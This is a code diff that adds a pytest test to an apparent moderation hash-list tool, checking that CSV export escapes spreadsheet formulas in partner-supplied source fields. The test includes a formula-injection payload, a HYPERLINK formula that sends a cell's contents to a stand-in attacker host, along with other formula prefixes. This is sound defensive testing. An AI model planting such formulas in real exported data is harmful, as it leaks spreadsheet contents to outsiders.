@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import csv
+import io
+
 import pytest
 from sqlalchemy import func, select
 from sqlalchemy.orm import Session
@@ -68,3 +71,16 @@ def test_exact_text_match(db: Session) -> None:
         default_source="t"))
     assert hashes.match(db, text_sha256=hashes.text_hash("VIVE le  califat"))
     assert not hashes.match(db, text_sha256=hashes.text_hash("Vive la république"))
+
+
+def test_export_neutralises_formulas_in_sources(db: Session) -> None:
+    """Issue 19: a partner's ``source`` must not run as a formula in the moderator's sheet."""
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    text = ("signal_type,signal,category,source\n"
+            f"sha256,{SHA},hate,\"{evil.replace(chr(34), chr(34) * 2)}\"\n"
+            f"md5,{'c' * 32},hate,@SUM(1+1)\n"
+            f"dhash,{'0f' * 8},hate,-1+2\n")
+    hashes.import_list(db, hashes.parse_list(text, default_source="t"))
+    rows = list(csv.reader(io.StringIO(hashes.export_list(db))))
+    assert {r[3] for r in rows[1:]} == {"'" + evil, "'@SUM(1+1)", "'-1+2"}
+    assert {r[1] for r in rows[1:]} == {SHA, "c" * 32, "0f" * 8}  # hashes themselves unchanged
